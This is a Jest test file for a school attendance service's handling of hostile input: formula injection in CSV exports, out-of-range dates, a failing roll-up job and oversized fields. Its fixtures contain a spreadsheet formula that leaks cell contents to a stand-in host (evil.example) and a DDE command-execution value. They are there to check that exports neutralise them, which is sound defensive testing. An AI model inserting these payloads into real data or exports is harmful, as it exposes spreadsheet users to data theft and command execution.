// Values that reach the service from outside and could hurt it or its users: names that a spreadsheet would run as
// formulas (neutralised in every export), marks dated outside the years the service holds (refused), a roll-up job
// that cannot be done (it fails alone), dates out of any range in a query (400, not 500), and values as big as a
// file (never sent back whole in an error).
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Queue } from 'bullmq';
import { parse } from 'csv-parse/sync';
import { ROLLUP_QUEUE, type RollupJob } from '../../server/src/rollup/rollup.types.js';
import { addDays, previousAcademicYearStart, todayInLondon } from '../../server/src/common/dates.js';
import { post, settled, startServer, waitFor, type TestServer } from '../support/server.js';
import type { SchoolOverview } from '../../server/src/contract/api.js';

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
// gias-small.csv's columns; three Camden primaries, two of them named by someone hostile.
const GIAS = [
  'URN,LA (code),LA (name),EstablishmentName,TypeOfEstablishment (name),EstablishmentStatus (name),' +
    'PhaseOfEducation (name),NumberOfPupils,PercentageFSM,Trusts (code),Trusts (name),LSOA (code),MSOA (code),' +
    'OfstedLastInsp',
  `930001,202,Camden,"${FORMULA.replaceAll('"', '""')}",Academy converter,Open,Primary,10,100,` +
    "TR09,+cmd|' /C calc'!A0,E01000907,E02000166,01-01-2016",
  '930002,202,Camden,@SUM(1+1),Community school,Open,Primary,10,50,,,E01000907,E02000166,01-01-2024',
  '930003,202,Camden,Plain Primary,Community school,Open,Primary,10,0,,,E01000907,E02000166,',
].join('\n');

/** Ten pupils a school for one day; 5, 2 and 0 of them absent in the morning, so the scores differ in sign. */
function register(date: string): string {
  const rows = ['urn,upn,date,session,code,year_group,sex,fsm,sen'];
  for (const [urn, absent] of [
    [930001, 5],
    [930002, 2],
    [930003, 0],
  ]) {
    for (let i = 1; i <= 10; i++) {
      const pupil = `${urn},H${urn}x${i},${date}`;
      rows.push(`${pupil},AM,${i <= absent ? 'I' : '/'},4,F,N,N`, `${pupil},PM,/,4,F,N,N`);
    }
  }
  return `${rows.join('\n')}\n`;
}

let server: TestServer;
const QUEUE_PREFIX = `test-hostile-values-${process.pid}-${Date.now()}`;

async function csv(path: string, token: string): Promise<Record<string, string>[]> {
  const response = await fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  expect(response.status).toBe(200);
  return parse(await response.text(), { columns: true }) as Record<string, string>[];
}

beforeAll(async () => {
  // The default window of mark dates (the test server's own MARK_DATES_FROM left out), and a queue this test can reach.
  server = await startServer({ MARK_DATES_FROM: undefined, QUEUE_PREFIX });
  expect((await post(server, '/api/v1/reference/schools', GIAS, server.token('admin'))).status).toBe(201);
  const submitted = await post(server, '/api/v1/submissions', register(todayInLondon()), server.token('submitter'));
  expect(submitted.status).toBe(202);
  await settled(server);
}, 90_000);

afterAll(() => server?.stop());

describe('names a spreadsheet would run as formulas', () => {
  it('are stored and answered as JSON as they were sent', async () => {
    const headers = { authorization: `Bearer ${server.token('dfe')}` };
    const response = await fetch(`${server.url}/api/v1/schools/930001/overview`, { headers });
    const { school } = (await response.json()) as SchoolOverview;
    expect(school).toMatchObject({ name: FORMULA, trustName: "+cmd|' /C calc'!A0" });
  });

  it('are quoted in the EES export; its figures stay numbers', async () => {
    const rows = await csv('/api/v1/export/attendance.csv?level=school&la=202', server.token('dfe'));
    const byUrn = new Map(rows.map((r) => [r.school_urn, r]));
    expect(byUrn.get('930001')!.school_name).toBe(`'${FORMULA}`);
    expect(byUrn.get('930002')!.school_name).toBe("'@SUM(1+1)");
    expect(byUrn.get('930003')!.school_name).toBe('Plain Primary');
    expect(byUrn.get('930001')!.overall_absence_perc).toMatch(/^\d+(\.\d+)?$/);
  });

  it('are quoted in the inspection priorities; negative contributions stay numbers', async () => {
    const rows = await csv('/api/v1/inspection/priorities.csv', server.token('ofsted'));
    expect(rows.map((r) => r.school).sort()).toEqual([`'${FORMULA}`, "'@SUM(1+1)", 'Plain Primary']);
    const parts = Object.keys(rows[0]).filter((k) => k.endsWith('_contribution'));
    const contributions = rows.flatMap((r) => parts.map((k) => r[k]));
    expect(contributions.some((v) => v.startsWith('-'))).toBe(true);
    for (const value of contributions) expect(value).toMatch(/^-?\d+\.\d{3}$/);
  });

  it('leave the pupils export as it was (nothing in it starts a formula)', async () => {
    const rows = await csv('/api/v1/schools/930001/pupils.csv', server.token('school', ['930001']));
    expect(rows).toHaveLength(10);
    expect(rows.every((r) => /^H930001x\d+$/i.test(r.upn))).toBe(true);
  });
});

describe('marks dated outside the years the service holds', () => {
  const today = todayInLondon();
  const first = previousAcademicYearStart(today);
  const file = (date: string) => `urn,upn,date,session,code,year_group\n930003,W1,${date},AM,/,4\n`;

  it.each(['1999-09-01', '1969-12-31', '0001-01-01', addDays(first, -1), addDays(today, 1)])(
    '%s: 400 saying which dates are taken, nothing stored',
    async (date) => {
      const response = await post(server, '/api/v1/submissions', file(date), server.token('submitter'));
      expect(response.status).toBe(400);
      const window = `registers are taken for ${first} to ${today} (today in England)`;
      expect(await response.json()).toMatchObject({
        message: expect.stringMatching(/^The file was not stored/),
        errors: [{ line: 2, column: 3, message: expect.stringContaining(window) }],
      });
    },
  );

  it('the first day of the previous academic year and today: taken', async () => {
    for (const date of [first, today]) {
      expect((await post(server, '/api/v1/submissions', file(date), server.token('submitter'))).status).toBe(202);
    }
    await settled(server);
  });
});

describe('a roll-up job that cannot be done', () => {
  it('fails alone: the jobs taken in the same batch are done', async () => {
    const connection = { host: '127.0.0.1', port: 6379 };
    const queue = new Queue<RollupJob>(ROLLUP_QUEUE, { connection, prefix: QUEUE_PREFIX });
    try {
      // No register can carry such a date now (above), so the job is queued directly, as one could be before the
      // window: its academic year starts in year 0, which the date arithmetic cannot take. Queued together, the jobs
      // are taken in one batch; one attempt each, so the outcome is final at once.
      const today = todayInLondon();
      const slice = (i: number): [number, string] => (i === 2 ? [930001, '0001-01-01'] : [930001 + (i % 3), today]);
      const job = (i: number) => ({ name: 'recompute', data: { slices: [slice(i)] }, opts: { attempts: 1 } });
      const jobs = await queue.addBulk([0, 1, 2, 3, 4, 5].map(job));
      const states = () => Promise.all(jobs.map((job) => job.getState()));
      const ended = async () => (await states()).every((s) => s === 'completed' || s === 'failed');
      await waitFor(ended, 30_000, 'the jobs to end');
      expect(await states()).toEqual(['completed', 'completed', 'failed', 'completed', 'completed', 'completed']);
      expect(server.output()).toMatch(/Roll-up of \d+ jobs failed \(Invalid time value\): recomputing them in halves/);
    } finally {
      await queue.close();
    }
  });
});

describe('date parameters out of range', () => {
  // Every GET with a date parameter; the first six answered from=9999-12-31 with a 500.
  const ROUTES: [path: string, role: 'dfe' | 'la' | 'admin'][] = [
    ['/api/v1/measures', 'dfe'],
    ['/api/v1/export/attendance.csv', 'dfe'],
    ['/api/v1/las/202/comparison', 'la'],
    ['/api/v1/las/202/cohorts', 'la'],
    ['/api/v1/schools/930001/overview', 'dfe'],
    ['/api/v1/trusts/TR09/overview', 'dfe'],
    ['/api/v1/las/202/schools', 'la'],
    ['/api/v1/las/202/neighbourhoods', 'la'],
    ['/api/v1/schools/930001/pupils', 'la'],
    ['/api/v1/schools/930001/pupils.csv', 'la'],
    ['/api/v1/audit', 'admin'],
  ];
  const cases = ROUTES.flatMap(([path, role]) =>
    ['from=9999-12-31', 'to=9999-12-31', 'from=1969-12-31'].map((query) => [`${path}?${query}`, role] as const),
  );
  const refused = async (path: string, token: string, field: string) => {
    const response = await fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
    expect([path, response.status]).toEqual([path, 400]);
    expect(await response.json()).toEqual({
      message: 'The request is not valid',
      errors: [{ field, message: 'must be a date from 2000-01-01 to 2100-12-31' }],
    });
  };

  it.each(cases)('%s: 400 naming the parameter', async (path, role) => {
    const token = role === 'la' ? server.token('la', ['202']) : server.token(role);
    await refused(path, token, /[?&](\w+)=/.exec(path)![1]);
  });

  it("alerts' date and a programme's evaluation date too; the range's ends are taken", async () => {
    await refused('/api/v1/alerts?date=9999-12-31', server.token('dfe'), 'date');
    const headers = { authorization: `Bearer ${server.token('dfe')}`, 'content-type': 'application/json' };
    const programme = { name: 'Attendance first', startDate: todayInLondon(), urns: [930001] };
    const body = JSON.stringify(programme);
    const created = await fetch(`${server.url}/api/v1/programmes`, { method: 'POST', headers, body });
    expect(created.status).toBe(201);
    const { id } = (await created.json()) as { id: string };
    await refused(`/api/v1/programmes/${id}/evaluation?to=9999-12-31`, server.token('dfe'), 'to');
    for (const query of ['from=2000-01-01', 'to=2100-12-31', 'from=2000-01-01&to=2100-12-31']) {
      const response = await fetch(`${server.url}/api/v1/measures?${query}`, { headers });
      expect([query, response.status]).toEqual([query, 200]);
    }
  });
});

describe('values as big as a file', () => {
  const header = 'urn,upn,date,session,code,year_group';
  const small = async (response: Response) => {
    const text = await response.text();
    expect(text.length).toBeLessThan(2_000);
    return JSON.parse(text) as { message: string; errors?: { line: number; column: number | null; message: string }[] };
  };

  it('a 40 MB pupil identifier: 400, saying which, quoting 40 characters of it', async () => {
    const upn = 'A'.repeat(40_000_000);
    const body = `${header}\n930001,${upn},${todayInLondon()},AM,/,4\n`;
    const response = await post(server, '/api/v1/submissions', body, server.token('submitter'));
    expect(response.status).toBe(400);
    expect((await small(response)).errors).toEqual([
      { line: 2, column: 2, message: `upn "${'A'.repeat(40)}…" must be 1-32 letters and digits` },
    ]);
  }, 60_000);

  it('a CSV parser error that carries a huge field: cut too', async () => {
    const field = `${'B'.repeat(5_000_000)}"quote`;
    const body = `${header}\n930001,${field},${todayInLondon()},AM,/,4\n`;
    const response = await post(server, '/api/v1/submissions', body, server.token('submitter'));
    expect(response.status).toBe(400);
    const { errors } = await small(response);
    expect(errors).toEqual([{ line: 2, column: null, message: expect.stringMatching(/^The CSV is malformed: .*…$/) }]);
  }, 60_000);

  it('a GIAS row with a huge URN: skipped, saying so briefly', async () => {
    const gias = `URN,LA (code),EstablishmentName\n${'9'.repeat(10_000_000)}x,202,Huge\n930009,202,Other Primary\n`;
    const response = await post(server, '/api/v1/reference/schools', gias, server.token('admin'));
    expect(response.status).toBe(201);
    const body = (await small(response)) as unknown as { skipped: { line: number; message: string }[] };
    expect(body.skipped).toEqual([{ line: 2, message: `URN "${'9'.repeat(40)}…" is not a number` }]);
  }, 60_000);
});
